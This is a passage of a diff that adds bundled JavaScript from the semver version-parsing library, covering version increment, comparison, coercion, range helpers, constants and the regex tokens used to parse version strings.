+      const b = other.build[i]
+      debug('build compare', i, a, b)
+      if (a === undefined && b === undefined) {
+        return 0
+      } else if (b === undefined) {
+        return 1
+      } else if (a === undefined) {
+        return -1
+      } else if (a === b) {
+        continue
+      } else {
+        return compareIdentifiers(a, b)
+      }
+    } while (++i)
+  }
+
+  // preminor will bump the version up to the next minor release, and immediately
+  // down to pre-release. premajor and prepatch work the same way.
+  inc (release, identifier, identifierBase) {
+    if (release.startsWith('pre')) {
+      if (!identifier && identifierBase === false) {
+        throw new Error('invalid increment argument: identifier is empty')
+      }
+      // Avoid an invalid semver results
+      if (identifier) {
+        const match = `-${identifier}`.match(this.options.loose ? re[t.PRERELEASELOOSE] : re[t.PRERELEASE])
+        if (!match || match[1] !== identifier) {
+          throw new Error(`invalid identifier: ${identifier}`)
+        }
+      }
+    }
+
+    switch (release) {
+      case 'premajor':
+        this.prerelease.length = 0
+        this.patch = 0
+        this.minor = 0
+        this.major++
+        this.inc('pre', identifier, identifierBase)
+        break
+      case 'preminor':
+        this.prerelease.length = 0
+        this.patch = 0
+        this.minor++
+        this.inc('pre', identifier, identifierBase)
+        break
+      case 'prepatch':
+        // If this is already a prerelease, it will bump to the next version
+        // drop any prereleases that might already exist, since they are not
+        // relevant at this point.
+        this.prerelease.length = 0
+        this.inc('patch', identifier, identifierBase)
+        this.inc('pre', identifier, identifierBase)
+        break
+      // If the input is a non-prerelease version, this acts the same as
+      // prepatch.
+      case 'prerelease':
+        if (this.prerelease.length === 0) {
+          this.inc('patch', identifier, identifierBase)
+        }
+        this.inc('pre', identifier, identifierBase)
+        break
+      case 'release':
+        if (this.prerelease.length === 0) {
+          throw new Error(`version ${this.raw} is not a prerelease`)
+        }
+        this.prerelease.length = 0
+        break
+
+      case 'major':
+        // If this is a pre-major version, bump up to the same major version.
+        // Otherwise increment major.
+        // 1.0.0-5 bumps to 1.0.0
+        // 1.1.0 bumps to 2.0.0
+        if (
+          this.minor !== 0 ||
+          this.patch !== 0 ||
+          this.prerelease.length === 0
+        ) {
+          this.major++
+        }
+        this.minor = 0
+        this.patch = 0
+        this.prerelease = []
+        break
+      case 'minor':
+        // If this is a pre-minor version, bump up to the same minor version.
+        // Otherwise increment minor.
+        // 1.2.0-5 bumps to 1.2.0
+        // 1.2.1 bumps to 1.3.0
+        if (this.patch !== 0 || this.prerelease.length === 0) {
+          this.minor++
+        }
+        this.patch = 0
+        this.prerelease = []
+        break
+      case 'patch':
+        // If this is not a pre-release version, it will increment the patch.
+        // If it is a pre-release it will bump up to the same patch version.
+        // 1.2.0-5 patches to 1.2.0
+        // 1.2.0 patches to 1.2.1
+        if (this.prerelease.length === 0) {
+          this.patch++
+        }
+        this.prerelease = []
+        break
+      // This probably shouldn't be used publicly.
+      // 1.0.0 'pre' would become 1.0.0-0 which is the wrong direction.
+      case 'pre': {
+        const base = Number(identifierBase) ? 1 : 0
+
+        if (this.prerelease.length === 0) {
+          this.prerelease = [base]
+        } else {
+          let i = this.prerelease.length
+          while (--i >= 0) {
+            if (typeof this.prerelease[i] === 'number') {
+              this.prerelease[i]++
+              i = -2
+            }
+          }
+          if (i === -1) {
+            // didn't increment anything
+            if (identifier === this.prerelease.join('.') && identifierBase === false) {
+              throw new Error('invalid increment argument: identifier already exists')
+            }
+            this.prerelease.push(base)
+          }
+        }
+        if (identifier) {
+          // 1.2.0-beta.1 bumps to 1.2.0-beta.2,
+          // 1.2.0-beta.fooblz or 1.2.0-beta bumps to 1.2.0-beta.0
+          let prerelease = [identifier, base]
+          if (identifierBase === false) {
+            prerelease = [identifier]
+          }
+          if (isPrereleaseIdentifier(this.prerelease, identifier)) {
+            const prereleaseBase = this.prerelease[identifier.split('.').length]
+            if (isNaN(prereleaseBase)) {
+              this.prerelease = prerelease
+            }
+          } else {
+            this.prerelease = prerelease
+          }
+        }
+        break
+      }
+      default:
+        throw new Error(`invalid increment argument: ${release}`)
+    }
+    this.raw = this.format()
+    if (this.build.length) {
+      this.raw += `+${this.build.join('.')}`
+    }
+    return this
+  }
+}
+
+module.exports = SemVer
+
+
+/***/ }),
+
+/***/ 1799:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const parse = __nccwpck_require__(6353)
+const clean = (version, options) => {
+  const s = parse(version.trim().replace(/^[=v]+/, ''), options)
+  return s ? s.version : null
+}
+module.exports = clean
+
+
+/***/ }),
+
+/***/ 8646:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const eq = __nccwpck_require__(5082)
+const neq = __nccwpck_require__(4974)
+const gt = __nccwpck_require__(6599)
+const gte = __nccwpck_require__(1236)
+const lt = __nccwpck_require__(3872)
+const lte = __nccwpck_require__(6717)
+
+const cmp = (a, op, b, loose) => {
+  switch (op) {
+    case '===':
+      if (typeof a === 'object') {
+        a = a.version
+      }
+      if (typeof b === 'object') {
+        b = b.version
+      }
+      return a === b
+
+    case '!==':
+      if (typeof a === 'object') {
+        a = a.version
+      }
+      if (typeof b === 'object') {
+        b = b.version
+      }
+      return a !== b
+
+    case '':
+    case '=':
+    case '==':
+      return eq(a, b, loose)
+
+    case '!=':
+      return neq(a, b, loose)
+
+    case '>':
+      return gt(a, b, loose)
+
+    case '>=':
+      return gte(a, b, loose)
+
+    case '<':
+      return lt(a, b, loose)
+
+    case '<=':
+      return lte(a, b, loose)
+
+    default:
+      throw new TypeError(`Invalid operator: ${op}`)
+  }
+}
+module.exports = cmp
+
+
+/***/ }),
+
+/***/ 5385:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const parse = __nccwpck_require__(6353)
+const { safeRe: re, t } = __nccwpck_require__(5471)
+
+const coerce = (version, options) => {
+  if (version instanceof SemVer) {
+    return version
+  }
+
+  if (typeof version === 'number') {
+    version = String(version)
+  }
+
+  if (typeof version !== 'string') {
+    return null
+  }
+
+  options = options || {}
+
+  let match = null
+  if (!options.rtl) {
+    match = version.match(options.includePrerelease ? re[t.COERCEFULL] : re[t.COERCE])
+  } else {
+    // Find the right-most coercible string that does not share
+    // a terminus with a more left-ward coercible string.
+    // Eg, '1.2.3.4' wants to coerce '2.3.4', not '3.4' or '4'
+    // With includePrerelease option set, '1.2.3.4-rc' wants to coerce '2.3.4-rc', not '2.3.4'
+    //
+    // Walk through the string checking with a /g regexp
+    // Manually set the index so as to pick up overlapping matches.
+    // Stop when we get a match that ends at the string end, since no
+    // coercible string can be more right-ward without the same terminus.
+    const coerceRtlRegex = options.includePrerelease ? re[t.COERCERTLFULL] : re[t.COERCERTL]
+    let next
+    while ((next = coerceRtlRegex.exec(version)) &&
+        (!match || match.index + match[0].length !== version.length)
+    ) {
+      if (!match ||
+            next.index + next[0].length !== match.index + match[0].length) {
+        match = next
+      }
+      coerceRtlRegex.lastIndex = next.index + next[1].length + next[2].length
+    }
+    // leave it in a clean state
+    coerceRtlRegex.lastIndex = -1
+  }
+
+  if (match === null) {
+    return null
+  }
+
+  const major = match[2]
+  const minor = match[3] || '0'
+  const patch = match[4] || '0'
+  const prerelease = options.includePrerelease && match[5] ? `-${match[5]}` : ''
+  const build = options.includePrerelease && match[6] ? `+${match[6]}` : ''
+
+  return parse(`${major}.${minor}.${patch}${prerelease}${build}`, options)
+}
+module.exports = coerce
+
+
+/***/ }),
+
+/***/ 7648:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const compareBuild = (a, b, loose) => {
+  const versionA = new SemVer(a, loose)
+  const versionB = new SemVer(b, loose)
+  return versionA.compare(versionB) || versionA.compareBuild(versionB)
+}
+module.exports = compareBuild
+
+
+/***/ }),
+
+/***/ 6874:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const compare = __nccwpck_require__(8469)
+const compareLoose = (a, b) => compare(a, b, true)
+module.exports = compareLoose
+
+
+/***/ }),
+
+/***/ 8469:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const compare = (a, b, loose) =>
+  new SemVer(a, loose).compare(new SemVer(b, loose))
+
+module.exports = compare
+
+
+/***/ }),
+
+/***/ 711:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const parse = __nccwpck_require__(6353)
+
+const diff = (version1, version2) => {
+  const v1 = parse(version1, null, true)
+  const v2 = parse(version2, null, true)
+  const comparison = v1.compare(v2)
+
+  if (comparison === 0) {
+    return null
+  }
+
+  const v1Higher = comparison > 0
+  const highVersion = v1Higher ? v1 : v2
+  const lowVersion = v1Higher ? v2 : v1
+  const highHasPre = !!highVersion.prerelease.length
+  const lowHasPre = !!lowVersion.prerelease.length
+
+  if (lowHasPre && !highHasPre) {
+    // Going from prerelease -> no prerelease requires some special casing
+
+    // If the low version has only a major, then it will always be a major
+    // Some examples:
+    // 1.0.0-1 -> 1.0.0
+    // 1.0.0-1 -> 1.1.1
+    // 1.0.0-1 -> 2.0.0
+    if (!lowVersion.patch && !lowVersion.minor) {
+      return 'major'
+    }
+
+    // If the main part has no difference
+    if (lowVersion.compareMain(highVersion) === 0) {
+      if (lowVersion.minor && !lowVersion.patch) {
+        return 'minor'
+      }
+      return 'patch'
+    }
+  }
+
+  // add the `pre` prefix if we are going to a prerelease version
+  const prefix = highHasPre ? 'pre' : ''
+
+  if (v1.major !== v2.major) {
+    return prefix + 'major'
+  }
+
+  if (v1.minor !== v2.minor) {
+    return prefix + 'minor'
+  }
+
+  if (v1.patch !== v2.patch) {
+    return prefix + 'patch'
+  }
+
+  // high and low are prereleases
+  return 'prerelease'
+}
+
+module.exports = diff
+
+
+/***/ }),
+
+/***/ 5082:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const compare = __nccwpck_require__(8469)
+const eq = (a, b, loose) => compare(a, b, loose) === 0
+module.exports = eq
+
+
+/***/ }),
+
+/***/ 6599:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const compare = __nccwpck_require__(8469)
+const gt = (a, b, loose) => compare(a, b, loose) > 0
+module.exports = gt
+
+
+/***/ }),
+
+/***/ 1236:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const compare = __nccwpck_require__(8469)
+const gte = (a, b, loose) => compare(a, b, loose) >= 0
+module.exports = gte
+
+
+/***/ }),
+
+/***/ 2338:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+
+const inc = (version, release, options, identifier, identifierBase) => {
+  if (typeof (options) === 'string') {
+    identifierBase = identifier
+    identifier = options
+    options = undefined
+  }
+
+  try {
+    return new SemVer(
+      version instanceof SemVer ? version.version : version,
+      options
+    ).inc(release, identifier, identifierBase).version
+  } catch (er) {
+    return null
+  }
+}
+module.exports = inc
+
+
+/***/ }),
+
+/***/ 3872:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const compare = __nccwpck_require__(8469)
+const lt = (a, b, loose) => compare(a, b, loose) < 0
+module.exports = lt
+
+
+/***/ }),
+
+/***/ 6717:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const compare = __nccwpck_require__(8469)
+const lte = (a, b, loose) => compare(a, b, loose) <= 0
+module.exports = lte
+
+
+/***/ }),
+
+/***/ 8511:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const major = (a, loose) => new SemVer(a, loose).major
+module.exports = major
+
+
+/***/ }),
+
+/***/ 2603:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const minor = (a, loose) => new SemVer(a, loose).minor
+module.exports = minor
+
+
+/***/ }),
+
+/***/ 4974:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const compare = __nccwpck_require__(8469)
+const neq = (a, b, loose) => compare(a, b, loose) !== 0
+module.exports = neq
+
+
+/***/ }),
+
+/***/ 6353:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const parse = (version, options, throwErrors = false) => {
+  if (version instanceof SemVer) {
+    return version
+  }
+  try {
+    return new SemVer(version, options)
+  } catch (er) {
+    if (!throwErrors) {
+      return null
+    }
+    throw er
+  }
+}
+
+module.exports = parse
+
+
+/***/ }),
+
+/***/ 8756:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const SemVer = __nccwpck_require__(7163)
+const patch = (a, loose) => new SemVer(a, loose).patch
+module.exports = patch
+
+
+/***/ }),
+
+/***/ 5714:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const parse = __nccwpck_require__(6353)
+const prerelease = (version, options) => {
+  const parsed = parse(version, options)
+  return (parsed && parsed.prerelease.length) ? parsed.prerelease : null
+}
+module.exports = prerelease
+
+
+/***/ }),
+
+/***/ 2173:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const compare = __nccwpck_require__(8469)
+const rcompare = (a, b, loose) => compare(b, a, loose)
+module.exports = rcompare
+
+
+/***/ }),
+
+/***/ 7192:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const compareBuild = __nccwpck_require__(7648)
+const rsort = (list, loose) => list.sort((a, b) => compareBuild(b, a, loose))
+module.exports = rsort
+
+
+/***/ }),
+
+/***/ 8011:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const Range = __nccwpck_require__(6782)
+const satisfies = (version, range, options) => {
+  try {
+    range = new Range(range, options)
+  } catch (er) {
+    return false
+  }
+  return range.test(version)
+}
+module.exports = satisfies
+
+
+/***/ }),
+
+/***/ 7491:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const compareBuild = __nccwpck_require__(7648)
+const sort = (list, loose) => list.sort((a, b) => compareBuild(a, b, loose))
+module.exports = sort
+
+
+/***/ }),
+
+/***/ 6114:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const parse = __nccwpck_require__(6353)
+const constants = __nccwpck_require__(5101)
+const SemVer = __nccwpck_require__(7163)
+
+const truncate = (version, truncation, options) => {
+  if (!constants.RELEASE_TYPES.includes(truncation)) {
+    return null
+  }
+
+  const clonedVersion = cloneInputVersion(version, options)
+  return clonedVersion && doTruncation(clonedVersion, truncation)
+}
+
+const cloneInputVersion = (version, options) => {
+  const versionStringToParse = (
+    version instanceof SemVer ? version.version : version
+  )
+
+  return parse(versionStringToParse, options)
+}
+
+const doTruncation = (version, truncation) => {
+  if (isPrerelease(truncation)) {
+    return version.version
+  }
+
+  version.prerelease = []
+
+  switch (truncation) {
+    case 'major':
+      version.minor = 0
+      version.patch = 0
+      break
+    case 'minor':
+      version.patch = 0
+      break
+  }
+
+  return version.format()
+}
+
+const isPrerelease = (type) => {
+  return type.startsWith('pre')
+}
+
+module.exports = truncate
+
+
+/***/ }),
+
+/***/ 8780:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+const parse = __nccwpck_require__(6353)
+const valid = (version, options) => {
+  const v = parse(version, options)
+  return v ? v.version : null
+}
+module.exports = valid
+
+
+/***/ }),
+
+/***/ 2088:
+/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {
+
+
+
+// just pre-load all the stuff that index.js lazily exports
+const internalRe = __nccwpck_require__(5471)
+const constants = __nccwpck_require__(5101)
+const SemVer = __nccwpck_require__(7163)
+const identifiers = __nccwpck_require__(3348)
+const parse = __nccwpck_require__(6353)
+const valid = __nccwpck_require__(8780)
+const clean = __nccwpck_require__(1799)
+const inc = __nccwpck_require__(2338)
+const diff = __nccwpck_require__(711)
+const major = __nccwpck_require__(8511)
+const minor = __nccwpck_require__(2603)
+const patch = __nccwpck_require__(8756)
+const prerelease = __nccwpck_require__(5714)
+const compare = __nccwpck_require__(8469)
+const rcompare = __nccwpck_require__(2173)
+const compareLoose = __nccwpck_require__(6874)
+const compareBuild = __nccwpck_require__(7648)
+const sort = __nccwpck_require__(7491)
+const rsort = __nccwpck_require__(7192)
+const gt = __nccwpck_require__(6599)
+const lt = __nccwpck_require__(3872)
+const eq = __nccwpck_require__(5082)
+const neq = __nccwpck_require__(4974)
+const gte = __nccwpck_require__(1236)
+const lte = __nccwpck_require__(6717)
+const cmp = __nccwpck_require__(8646)
+const coerce = __nccwpck_require__(5385)
+const truncate = __nccwpck_require__(6114)
+const Comparator = __nccwpck_require__(9379)
+const Range = __nccwpck_require__(6782)
+const satisfies = __nccwpck_require__(8011)
+const toComparators = __nccwpck_require__(4750)
+const maxSatisfying = __nccwpck_require__(3193)
+const minSatisfying = __nccwpck_require__(8595)
+const minVersion = __nccwpck_require__(1866)
+const validRange = __nccwpck_require__(4737)
+const outside = __nccwpck_require__(280)
+const gtr = __nccwpck_require__(2276)
+const ltr = __nccwpck_require__(5213)
+const intersects = __nccwpck_require__(3465)
+const simplifyRange = __nccwpck_require__(2028)
+const subset = __nccwpck_require__(1489)
+module.exports = {
+  parse,
+  valid,
+  clean,
+  inc,
+  diff,
+  major,
+  minor,
+  patch,
+  prerelease,
+  compare,
+  rcompare,
+  compareLoose,
+  compareBuild,
+  sort,
+  rsort,
+  gt,
+  lt,
+  eq,
+  neq,
+  gte,
+  lte,
+  cmp,
+  coerce,
+  truncate,
+  Comparator,
+  Range,
+  satisfies,
+  toComparators,
+  maxSatisfying,
+  minSatisfying,
+  minVersion,
+  validRange,
+  outside,
+  gtr,
+  ltr,
+  intersects,
+  simplifyRange,
+  subset,
+  SemVer,
+  re: internalRe.re,
+  src: internalRe.src,
+  tokens: internalRe.t,
+  SEMVER_SPEC_VERSION: constants.SEMVER_SPEC_VERSION,
+  RELEASE_TYPES: constants.RELEASE_TYPES,
+  compareIdentifiers: identifiers.compareIdentifiers,
+  rcompareIdentifiers: identifiers.rcompareIdentifiers,
+}
+
+
+/***/ }),
+
+/***/ 5101:
+/***/ ((module) => {
+
+
+
+// Note: this is the semver.org version of the spec that it implements
+// Not necessarily the package version of this code.
+const SEMVER_SPEC_VERSION = '2.0.0'
+
+const MAX_LENGTH = 256
+const MAX_SAFE_INTEGER = Number.MAX_SAFE_INTEGER ||
+/* istanbul ignore next */ 9007199254740991
+
+// Max safe segment length for coercion.
+const MAX_SAFE_COMPONENT_LENGTH = 16
+
+// Max safe length for a build identifier. The max length minus 6 characters for
+// the shortest version with a build 0.0.0+BUILD.
+const MAX_SAFE_BUILD_LENGTH = MAX_LENGTH - 6
+
+// ECMAScript whitespace and line terminators matched by \s.
+const WHITESPACE_CHARACTERS = [
+  '\t',
+  '\n',
+  '\v',
+  '\f',
+  '\r',
+  ' ',
+  '\u00a0',
+  '\u1680',
+  '\u2000',
+  '\u2001',
+  '\u2002',
+  '\u2003',
+  '\u2004',
+  '\u2005',
+  '\u2006',
+  '\u2007',
+  '\u2008',
+  '\u2009',
+  '\u200a',
+  '\u2028',
+  '\u2029',
+  '\u202f',
+  '\u205f',
+  '\u3000',
+  '\ufeff',
+]
+
+const RELEASE_TYPES = [
+  'major',
+  'premajor',
+  'minor',
+  'preminor',
+  'patch',
+  'prepatch',
+  'prerelease',
+]
+
+module.exports = {
+  MAX_LENGTH,
+  MAX_SAFE_COMPONENT_LENGTH,
+  MAX_SAFE_BUILD_LENGTH,
+  MAX_SAFE_INTEGER,
+  WHITESPACE_CHARACTERS,
+  RELEASE_TYPES,
+  SEMVER_SPEC_VERSION,
+  FLAG_INCLUDE_PRERELEASE: 0b001,
+  FLAG_LOOSE: 0b010,
+}
+
+
+/***/ }),
+
+/***/ 1159:
+/***/ ((module) => {
+
+
+
+const debug = (
+  typeof process === 'object' &&
+  process.env &&
+  process.env.NODE_DEBUG &&
+  /\bsemver\b/i.test(process.env.NODE_DEBUG)
+) ? (...args) => console.error('SEMVER', ...args)
+  : () => {}
+
+module.exports = debug
+
+
+/***/ }),
+
+/***/ 3348:
+/***/ ((module) => {
+
+
+
+const numeric = /^[0-9]+$/
+const compareIdentifiers = (a, b) => {
+  if (typeof a === 'number' && typeof b === 'number') {
+    return a === b ? 0 : a < b ? -1 : 1
+  }
+
+  const anum = numeric.test(a)
+  const bnum = numeric.test(b)
+
+  if (anum && bnum) {
+    a = +a
+    b = +b
+  }
+
+  return a === b ? 0
+    : (anum && !bnum) ? -1
+    : (bnum && !anum) ? 1
+    : a < b ? -1
+    : 1
+}
+
+const rcompareIdentifiers = (a, b) => compareIdentifiers(b, a)
+
+module.exports = {
+  compareIdentifiers,
+  rcompareIdentifiers,
+}
+
+
+/***/ }),
+
+/***/ 1383:
+/***/ ((module) => {
+
+
+
+class LRUCache {
+  constructor () {
+    this.max = 1000
+    this.map = new Map()
+  }
+
+  get (key) {
+    const value = this.map.get(key)
+    if (value === undefined) {
+      return undefined
+    } else {
+      // Remove the key from the map and add it to the end
+      this.map.delete(key)
+      this.map.set(key, value)
+      return value
+    }
+  }
+
+  delete (key) {
+    return this.map.delete(key)
+  }
+
+  set (key, value) {
+    const deleted = this.delete(key)
+
+    if (!deleted && value !== undefined) {
+      // If cache is full, delete the least recently used item
+      if (this.map.size >= this.max) {
+        const firstKey = this.map.keys().next().value
+        this.delete(firstKey)
+      }
+
+      this.map.set(key, value)
+    }
+
+    return this
+  }
+}
+
+module.exports = LRUCache
+
+
+/***/ }),
+
+/***/ 356:
+/***/ ((module) => {
+
+
+
+// parse out just the options we care about
+const looseOption = Object.freeze({ loose: true })
+const emptyOpts = Object.freeze({ })
+const parseOptions = options => {
+  if (!options) {
+    return emptyOpts
+  }
+
+  if (typeof options !== 'object') {
+    return looseOption
+  }
+
+  return options
+}
+module.exports = parseOptions
+
+
+/***/ }),
+
+/***/ 5471:
+/***/ ((module, exports, __nccwpck_require__) => {
+
+
+
+const {
+  MAX_SAFE_COMPONENT_LENGTH,
+  MAX_SAFE_BUILD_LENGTH,
+  MAX_LENGTH,
+} = __nccwpck_require__(5101)
+const debug = __nccwpck_require__(1159)
+exports = module.exports = {}
+
+// The actual regexps go on exports.re
+const re = exports.re = []
+const safeRe = exports.safeRe = []
+const src = exports.src = []
+const safeSrc = exports.safeSrc = []
+const t = exports.t = {}
+let R = 0
+
+const LETTERDASHNUMBER = '[a-zA-Z0-9-]'
+
+// Replace some greedy regex tokens to prevent regex dos issues. These regex are
+// used internally via the safeRe object since all inputs in this library get
+// normalized first to trim and collapse all extra whitespace. The original
+// regexes are exported for userland consumption and lower level usage. A
+// future breaking change could export the safer regex only with a note that
+// all input should have extra whitespace removed.
+const safeRegexReplacements = [
+  ['\\s', 1],
+  ['\\d', MAX_LENGTH],
+  [LETTERDASHNUMBER, MAX_SAFE_BUILD_LENGTH],
+]
+
+const makeSafeRegex = (value) => {
+  for (const [token, max] of safeRegexReplacements) {
+    value = value
+      .split(`${token}*`).join(`${token}{0,${max}}`)
+      .split(`${token}+`).join(`${token}{1,${max}}`)
+  }
+  return value
+}
+
+const createToken = (name, value, isGlobal) => {
+  const safe = makeSafeRegex(value)
+  const index = R++
+  debug(name, index, value)
+  t[name] = index
+  src[index] = value
+  safeSrc[index] = safe
+  re[index] = new RegExp(value, isGlobal ? 'g' : undefined)
+  safeRe[index] = new RegExp(safe, isGlobal ? 'g' : undefined)
+}
+
+// The following Regular Expressions can be used for tokenizing,
+// validating, and parsing SemVer version strings.
+
+// ## Numeric Identifier
+// A single `0`, or a non-zero digit followed by zero or more digits.
+
+createToken('NUMERICIDENTIFIER', '0|[1-9]\\d*')
+createToken('NUMERICIDENTIFIERLOOSE', '\\d+')
+
+// ## Non-numeric Identifier
+// Zero or more digits, followed by a letter or hyphen, and then zero or
+// more letters, digits, or hyphens.
+
+createToken('NONNUMERICIDENTIFIER', `\\d*[a-zA-Z-]${LETTERDASHNUMBER}*`)
+
+// ## Main Version
+// Three dot-separated numeric identifiers.
+
+createToken('MAINVERSION', `(${src[t.NUMERICIDENTIFIER]})\\.` +
+                   `(${src[t.NUMERICIDENTIFIER]})\\.` +
+                   `(${src[t.NUMERICIDENTIFIER]})`)
+
+createToken('MAINVERSIONLOOSE', `(${src[t.NUMERICIDENTIFIERLOOSE]})\\.` +
+                        `(${src[t.NUMERICIDENTIFIERLOOSE]})\\.` +
+                        `(${src[t.NUMERICIDENTIFIERLOOSE]})`)
+
+// ## Pre-release Version Identifier
+// A numeric identifier, or a non-numeric identifier.
+// Non-numeric identifiers include numeric identifiers but can be longer.
+// Therefore non-numeric identifiers must go first.
+
+createToken('PRERELEASEIDENTIFIER', `(?:${src[t.NONNUMERICIDENTIFIER]
+}|${src[t.NUMERICIDENTIFIER]})`)
+
+createToken('PRERELEASEIDENTIFIERLOOSE', `(?:${src[t.NONNUMERICIDENTIFIER]
+}|${src[t.NUMERICIDENTIFIERLOOSE]})`)
+
+// ## Pre-release Version
+// Hyphen, followed by one or more dot-separated pre-release version
+// identifiers.
+
+createToken('PRERELEASE', `(?:-(${src[t.PRERELEASEIDENTIFIER]
+}(?:\\.${src[t.PRERELEASEIDENTIFIER]})*))`)
+
+createToken('PRERELEASELOOSE', `(?:-?(${src[t.PRERELEASEIDENTIFIERLOOSE]
+}(?:\\.${src[t.PRERELEASEIDENTIFIERLOOSE]})*))`)
+
+// ## Build Metadata Identifier
+// Any combination of digits, letters, or hyphens.
+
+createToken('BUILDIDENTIFIER', `${LETTERDASHNUMBER}+`)
+
+// ## Build Metadata
+// Plus sign, followed by one or more period-separated build metadata
+// identifiers.
+
+createToken('BUILD', `(?:\\+(${src[t.BUILDIDENTIFIER]
+}(?:\\.${src[t.BUILDIDENTIFIER]})*))`)
+
+// ## Full Version String
+// A main version, followed optionally by a pre-release version and
+// build metadata.
+
+// Note that the only major, minor, patch, and pre-release sections of
+// the version string are capturing groups.  The build metadata is not a
+// capturing group, because it should not ever be used in version
+// comparison.
+
+createToken('FULLPLAIN', `v?${src[t.MAINVERSION]
+}${src[t.PRERELEASE]}?${
+  src[t.BUILD]}?`)
+
+createToken('FULL', `^${src[t.FULLPLAIN]}$`)
+
+// like full, but allows v1.2.3 and =1.2.3, which people do sometimes.
+// also, 1.0.0alpha1 (prerelease without the hyphen) which is pretty
+// common in the npm registry.
+createToken('LOOSEPLAIN', `[v=\\s]*${src[t.MAINVERSIONLOOSE]
+}${src[t.PRERELEASELOOSE]}?${
+  src[t.BUILD]}?`)
+
+createToken('LOOSE', `^${src[t.LOOSEPLAIN]}$`)
+
+createToken('GTLT', '((?:<|>)?=?)')
+
+// Something like "2.*" or "1.2.x".
+// Note that "x.x" is a valid xRange identifier, meaning "any version"
+// Only the first item is strictly required.
+createToken('XRANGEIDENTIFIERLOOSE', `${src[t.NUMERICIDENTIFIERLOOSE]}|x|X|\\*`)
+createToken('XRANGEIDENTIFIER', `${src[t.NUMERICIDENTIFIER]}|x|X|\\*`)
+
+createToken('XRANGEPLAIN', `[v=\\s]*(${src[t.XRANGEIDENTIFIER]})` +
+                   `(?:\\.(${src[t.XRANGEIDENTIFIER]})` +
+                   `(?:\\.(${src[t.XRANGEIDENTIFIER]})` +
+                   `(?:${src[t.PRERELEASE]})?${
+                     src[t.BUILD]}?` +
+                   `)?)?`)
+
+createToken('XRANGEPLAINLOOSE', `[v=\\s]*(${src[t.XRANGEIDENTIFIERLOOSE]})` +
+                        `(?:\\.(${src[t.XRANGEIDENTIFIERLOOSE]})` +
+                        `(?:\\.(${src[t.XRANGEIDENTIFIERLOOSE]})` +
+                        `(?:${src[t.PRERELEASELOOSE]})?${
+                          src[t.BUILD]}?` +
+                        `)?)?`)
+
+createToken('XRANGE', `^${src[t.GTLT]}\\s*${src[t.XRANGEPLAIN]}$`)
+createToken('XRANGELOOSE', `^${src[t.GTLT]}\\s*${src[t.XRANGEPLAINLOOSE]}$`)
+
+// Coercion.
+// Extract anything that could conceivably be a part of a valid semver
+createToken('COERCEPLAIN', `${'(^|[^\\d])' +
+              '(\\d{1,'}${MAX_SAFE_COMPONENT_LENGTH}})` +
+              `(?:\\.(\\d{1,${MAX_SAFE_COMPONENT_LENGTH}}))?` +
+              `(?:\\.(\\d{1,${MAX_SAFE_COMPONENT_LENGTH}}))?`)
+createToken('COERCE', `${src[t.COERCEPLAIN]}(?:$|[^\\d])`)
+createToken('COERCEFULL', src[t.COERCEPLAIN] +
+              `(?:${src[t.PRERELEASE]})?` +
+              `(?:${src[t.BUILD]})?` +
+              `(?:$|[^\\d])`)
+createToken('COERCERTL', src[t.COERCE], true)
+createToken('COERCERTLFULL', src[t.COERCEFULL], true)
+
+// Tilde ranges.
+// Meaning is "reasonably at or greater than"
+createToken('LONETILDE', '(?:~>?)')
+
+createToken('TILDETRIM', `(\\s*)${src[t.LONETILDE]}\\s+`, true)
+exports.tildeTrimReplace = '$1~'
+
+createToken('TILDE', `^${src[t.LONETILDE]}${src[t.XRANGEPLAIN]}$`)
+createToken('TILDELOOSE', `^${src[t.LONETILDE]}${src[t.XRANGEPLAINLOOSE]}$`)
+
+// Caret ranges.
+// Meaning is "at least and backwards compatible with"
+createToken('LONECARET', '(?:\\^)')
+
+createToken('CARETTRIM', `(\\s*)${src[t.LONECARET]}\\s+`, true)
+exports.caretTrimReplace = '$1^'
+
+createToken('CARET', `^${src[t.LONECARET]}${src[t.XRANGEPLAIN]}$`)
+createToken('CARETLOOSE', `^${src[t.LONECARET]}${src[t.XRANGEPLAINLOOSE]}$`)
+
+// A simple gt/lt/eq thing, or just "" to indicate "any version"
+createToken('COMPARATORLOOSE', `^${src[t.GTLT]}\\s*(${src[t.LOOSEPLAIN]})$|^$`)
